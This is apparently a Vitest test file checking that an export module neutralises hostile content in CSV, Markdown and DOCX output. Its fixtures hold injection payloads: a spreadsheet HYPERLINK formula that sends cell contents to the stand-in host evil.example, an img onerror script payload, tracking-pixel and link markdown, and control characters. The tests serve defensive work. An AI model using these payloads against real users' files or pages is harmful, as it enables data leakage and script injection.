import JSZip from 'jszip';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { WorldEvent } from '../../../engine/agent/events.js';
import { ArtifactExporter, makeProvenance, type ExportBundle } from '../../../engine/extraction/index.js';

const provenance = makeProvenance('gpt-test-mini', 'Hostile panel', new Date('2025-06-01T12:00:00Z'));

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '=1\nsecond line',
];

function talk(content: string, seq: number, agent = 'Maya Chen'): WorldEvent {
  return { agent, kind: 'action', type: 'TALK', content, seq, threadKey: 't1' };
}

function hostileBundle(): ExportBundle {
  return {
    title: 'Hostile export',
    provenance,
    transcript: [
      ...FORMULAS.map((content, index) => talk(content, index + 1)),
      talk('[click here](http://evil.example) <img src=x onerror=alert(1)> **bold** # heading', 50),
      talk('NUL\u0000 and ANSI \u001b[31mred\u001b[0m inside', 51),
    ],
    summary: {
      overview: '# Not a heading\n[link](http://evil.example)',
      themes: [{ theme: '<b>Theme</b>', description: '![pixel](http://evil.example/p.png)', quotes: [] }],
      agreements: ['- nested | pipe'],
      disagreements: [],
      surprises: [],
      objections: [],
      recommendations: [],
    },
  };
}

describe('exports are safe to open', () => {
  const exporter = new ArtifactExporter();

  it('neutralises every CSV cell a spreadsheet would run as a formula (multi-line ones too)', () => {
    const csv = exporter.toCsv(hostileBundle(), 'transcript');
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, comments: '#', skipEmptyLines: true }).data;
    const contents = rows.slice(0, FORMULAS.length).map((row) => row.content);
    expect(contents).toEqual(FORMULAS.map((formula) => `'${formula}`));
  });

  it('escapes Markdown so model or user text cannot make links, images, HTML or headings', () => {
    const md = exporter.toMarkdown(hostileBundle());
    expect(md).toContain(
      '- **Maya Chen**: \\[click here\\](http://evil.example) \\<img src=x onerror=alert(1)\\> \\*\\*bold\\*\\* # heading',
    );
    expect(md).toContain('\\# Not a heading \\[link\\](http://evil.example)');
    expect(md).toContain('**\\<b\\>Theme\\</b\\>**: !\\[pixel\\](http://evil.example/p.png)');
    expect(md).toContain('- \\- nested \\| pipe');
    expect(md).not.toMatch(/(^|[^\\])\[click here\]/);
    expect(md).not.toMatch(/(^|[^\\])<img/);
  });

  it('writes a DOCX without the control characters XML forbids, keeping the rest of the text', async () => {
    const file = await exporter.export(hostileBundle(), 'docx');
    const zip = await JSZip.loadAsync(file.data);
    const xml = (await zip.file('word/document.xml')?.async('string')) ?? '';
    // biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    expect(xml.replace(/<[^>]+>/g, '')).toContain('NUL and ANSI [31mred[0m inside');
  });
});
